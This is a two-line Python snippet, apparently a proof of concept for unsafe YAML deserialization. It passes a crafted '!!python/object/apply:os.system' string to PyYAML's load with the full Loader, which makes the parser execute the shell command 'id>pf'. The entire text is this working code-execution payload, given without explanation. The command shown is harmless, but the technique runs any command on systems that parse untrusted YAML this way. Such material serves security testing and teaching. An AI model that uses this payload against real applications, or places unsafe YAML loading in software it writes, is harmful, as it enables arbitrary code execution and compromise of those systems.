from yaml import load, Loader as L
load("!!python/object/apply:os.system ['id>pf']", L)
